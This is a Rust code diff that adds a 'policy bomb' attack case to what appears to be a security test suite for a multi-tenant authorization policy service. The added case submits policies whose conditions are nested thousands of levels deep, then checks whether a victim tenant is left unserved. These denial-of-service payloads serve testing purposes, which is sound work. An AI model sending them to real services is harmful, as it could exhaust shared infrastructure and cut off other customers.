@@ -132,6 +132,38 @@ pub(super) const FAMILY: Family = Family {
                 Outcome::furthest(tries)
             }
         ),
+        attack!(
+            "avp-policy-bomb",
+            "policies that are thousands of levels deep, so that whoever reads them ends",
+            Authorization,
+            Alone,
+            |a| {
+                let (key, own) = (&a.acme().access_key, &a.acme().policy_store_id);
+                let deep =
+                    |open: &str, close: &str| format!("{}true{}", open.repeat(4_800), close.repeat(4_800));
+                let mut tries = Vec::new();
+                for condition in [
+                    deep("(", ")"),
+                    deep("[", "]"),
+                    format!("{}true{}", "!(".repeat(3_200), ")".repeat(3_200)),
+                    format!("{}true", "if true then false else ".repeat(400)),
+                ] {
+                    let statement = format!("forbid (principal, action, resource) when {{ {condition} }};");
+                    let definition = json!({ "static": { "statement": statement } });
+                    let create = json!({ "policyStoreId": own, "definition": definition });
+                    let answer = a.avp(key, "CreatePolicy", create).await;
+                    if let Some(policy) = answer.text_member("policyId") {
+                        a.avp(key, "DeletePolicy", json!({ "policyStoreId": own, "policyId": policy })).await;
+                    }
+                    tries.push(outcome_of(&answer));
+                }
+                let theirs = a.loot().victims.clone().unwrap_or_default();
+                let served = a.send(a.theirs("GET", "/accounts").bearer(&theirs)).await;
+                let gone = served.status() == 0 || served.status() >= 500;
+                let leak = gone.then(|| Leak::oracle("the victim is no longer served".to_owned()));
+                Outcome::furthest(tries).leaking(leak)
+            }
+        ),
     ],
     controls: &[control!("a policy that stays inside the own tenant is published, and decides", |a| {
         let (key, own) = (&a.acme().access_key, &a.acme().policy_store_id);
